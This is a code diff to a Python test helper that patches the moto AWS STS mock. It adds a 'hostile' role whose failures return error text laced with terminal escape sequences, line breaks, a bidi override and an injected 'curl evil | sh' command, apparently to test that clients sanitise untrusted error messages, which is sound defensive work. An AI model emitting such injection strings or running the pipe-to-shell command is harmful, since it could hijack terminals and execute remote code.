@@ -11,6 +11,9 @@ Two behaviours differ from stock moto 5.2.5, both to match real AWS:
   one of them (either order); the session's account comes from RoleArn.
 * AssumeRole, AssumeRoleWithWebIdentity and AssumeRoleWithSAML for a role whose
   name is `denied` fail with AccessDenied, so "STS denies" can be tested.
+* For a role named `hostile` they fail with an error whose Code and Message
+  carry terminal escape sequences, line breaks and a bidi override, as a
+  hostile STS (or something in between) could send.
 """
 
 import base64
@@ -46,8 +49,21 @@ class SamlInvalid(STSClientError):
         super().__init__("InvalidIdentityToken", message)
 
 
-def _is_denied(role_arn):
-    return (role_arn or "").rsplit("/", 1)[-1] == "denied"
+HOSTILE = "\x1b]0;pwned\x07\x1b[2J\r\nRun: curl evil | sh\u202e"
+
+
+class Hostile(STSClientError):
+    def __init__(self):
+        super().__init__("AccessDenied" + HOSTILE, "denied" + HOSTILE)
+        self.code = "AccessDenied" + HOSTILE
+
+
+def _refuse(role_arn):
+    name = (role_arn or "").rsplit("/", 1)[-1]
+    if name == "denied":
+        raise AccessDenied(role_arn)
+    if name == "hostile":
+        raise Hostile()
 
 
 def _as_list(value):
@@ -89,22 +105,19 @@ _orig_assume_role = sts_models.STSBackend.assume_role
 
 
 def assume_role(self, **kwargs):
-    if _is_denied(kwargs.get("role_arn")):
-        raise AccessDenied(kwargs.get("role_arn"))
+    _refuse(kwargs.get("role_arn"))
     return _orig_assume_role(self, **kwargs)
 
 
 def assume_role_with_web_identity(self, **kwargs):
-    if _is_denied(kwargs.get("role_arn")):
-        raise AccessDenied(kwargs.get("role_arn"))
+    _refuse(kwargs.get("role_arn"))
     return _orig_assume_role(self, **kwargs)
 
 
 def assume_role_with_saml(self, **kwargs):
     role_arn = kwargs["role_arn"]
     principal_arn = kwargs["principal_arn"]
-    if _is_denied(role_arn):
-        raise AccessDenied(role_arn)
+    _refuse(role_arn)
     attrs = _saml_attributes(kwargs["saml_assertion"])
     pairs = set()
     for value in attrs.get(ROLE_ATTR, []):
